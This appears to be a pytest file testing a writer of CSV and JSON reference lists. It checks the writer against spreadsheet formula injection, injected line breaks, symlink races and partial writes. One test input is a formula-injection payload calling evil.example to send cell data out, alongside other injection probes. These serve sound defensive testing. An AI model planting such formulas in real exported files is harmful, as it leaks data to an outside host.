"""Lists of references are whole, and hold nothing that acts on whoever opens them."""

import csv
import json
import os
from pathlib import Path

import pytest

from tasks.stores import mapping_files, whole_files
from tasks.stores.mapping_files import RowList, write_lists

NEW = "registry.example/app:v1@sha256:0"


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/"&A1)', "+1", "-1", "@SUM(A1)", "\t=1"])
def test_a_name_is_no_formula_in_a_spreadsheet(tmp_path: Path, name: str) -> None:
    rows = [{"old": f"{name}:v1", "new": NEW}]
    for ending in ("csv", "json"):
        write_lists([RowList(tmp_path / f"list.{ending}", rows)], {})
    with (tmp_path / "list.csv").open(newline="") as file:
        assert list(csv.DictReader(file)) == [{"old": f"'{name}:v1", "new": NEW}]
    assert json.loads((tmp_path / "list.json").read_bytes())["references"] == rows


def test_a_name_makes_no_row_of_its_own(tmp_path: Path) -> None:
    write_lists([RowList(tmp_path / "list.csv", [{"old": "a\r=1\nb:v1", "new": NEW}])], {})
    with (tmp_path / "list.csv").open(newline="") as file:
        assert list(csv.DictReader(file)) == [{"old": "a\\r=1\nb:v1", "new": NEW}]


def test_other_names_are_written_as_they_are(tmp_path: Path) -> None:
    rows = [{"old": f"{name}:v1", "new": NEW} for name in ("/mnt/a", "s3://b/-c", "team/app", "a,b", "'x", "größe")]
    write_lists([RowList(tmp_path / "list.csv", rows)], {})
    with (tmp_path / "list.csv").open(encoding="utf-8", newline="") as file:
        assert list(csv.DictReader(file)) == rows


def test_a_list_is_written_through_no_link_that_somebody_foresaw(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In a folder that others write to, such as one for temporary files."""
    monkeypatch.setattr(mapping_files.os, "getpid", lambda: 7)
    (tmp_path / "only mine").write_text("kept")
    for token in ("7", "seen"):
        (tmp_path / f".{token}.tmp").symlink_to(tmp_path / "only mine")
    write_lists([RowList(tmp_path / "list.csv", [{"old": "a", "new": "b"}])], {})
    assert (tmp_path / "only mine").read_text() == "kept"
    assert not (tmp_path / "list.csv").is_symlink()
    monkeypatch.setattr(whole_files.secrets, "token_hex", lambda _: "seen")
    with pytest.raises(mapping_files.ConfigurationError, match=os.strerror(17)):
        write_lists([RowList(tmp_path / "list.csv", [{"old": "a", "new": "c"}])], {})
    assert (tmp_path / "only mine").read_text() == "kept"


def test_where_one_list_can_not_be_written_the_others_stay_as_they_were(tmp_path: Path) -> None:
    """Else old references would be of one day, and the list for the way back of another."""
    (tmp_path / "list.csv").write_text("of yesterday")
    rows = [{"old": "a", "new": "b"}]
    with pytest.raises(mapping_files.ConfigurationError, match=r"list\.json can't be written"):
        write_lists([RowList(tmp_path / "list.csv", rows), RowList(tmp_path / "gone" / "list.json", rows)], {})
    assert (tmp_path / "list.csv").read_text() == "of yesterday"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["list.csv"]
